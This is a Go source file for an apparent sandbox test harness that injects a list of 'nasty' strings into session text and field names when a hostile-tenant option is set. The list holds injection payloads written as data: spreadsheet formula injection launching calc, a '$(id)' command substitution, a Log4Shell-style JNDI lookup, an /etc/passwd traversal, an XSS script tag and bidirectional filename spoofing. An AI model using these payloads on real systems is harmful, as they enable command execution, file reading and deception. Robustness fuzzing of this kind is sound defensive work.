package sandbox

import "strings"

// nasty is text that has broken terminals, spreadsheets, browsers and log collectors.
var nasty = []string{
	"\x1b[2J\x1b[31mred\x1b[0m",
	"\x1b]0;title\x07 \x1b]8;;http://example.com\x07link\x1b]8;;\x07",
	"=cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3", "\t=1+1", "\r=1+1",
	"\u202egnp.exe\u202c", "\u2066isolate\u2069 \u200f\u200e", "\u061c arabic mark",
	"zero\u200bwidth\u200d\u2060\ufeff", "tag\U000e0041\U000e007f", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 zalgo",
	"line\nbreak\r\nand\rmore\v\f", "next\u0085line \u2028 separator \u2029",
	"nul\x00 bell\x07 backspace\b\b\b del\x7f c1 \u009b31m",
	"half \xed\xa0\x80 and \xed\xbf\xbf of a pair",
	"<script>alert(1)</script> &amp; <!-- -->",
	`"quoted", 'single', a;b,c|d\e`, `""",`, "`$(id)` %s %n %08x ${jndi:ldap://example.com/a}",
	"CEF:0|a|b|c|d|e|9|msg=x\\=y\\|z", "<134>1 2026-01-01T00:00:00Z host app - - [a b=\"c\\]\"] x",
	"]]>\x1a\x03\x04", "👩‍👩‍👧‍👦🏳️‍🌈 家族", "noncharacter \uffff \U0010ffff", "../../etc/passwd\x00.txt",
	"long" + strings.Repeat("\u2588", 400),
}

// spoil puts something nasty into the session's text of that place, in a hostile tenant. The
// same place always gets the same.
func (t *Tenant) spoil(s *session, place uint64, text string) string {
	if !t.options.Hostile {
		return text
	}
	r := draw(t.options.Seed, aboutSpoil, s.number<<8|place)
	if !r.oneIn(3) {
		return text
	}
	switch bad := pick(r, nasty); r.IntN(4) {
	case 0:
		return bad
	case 1:
		return text + " " + bad
	default:
		return bad + " " + text
	}
}

// hostileFields writes fields whose names and sizes are unkind.
func (t *Tenant) hostileFields(w *builder, s *session, r stream) {
	w.object("custom", func() {
		for _, name := range []string{"", "a.b", "=1+1", "new\nline", "\x1b[7m", "\u202e", `q"uote`, "sp ace", "-1", "*"} {
			w.text(name, pick(r, nasty))
		}
	})
	if s.traits&hugeField != 0 {
		bad := pick(r, nasty) + " "
		w.text("huge", strings.Repeat(bad, (100<<10+r.IntN(300<<10))/len(bad)))
	}
}
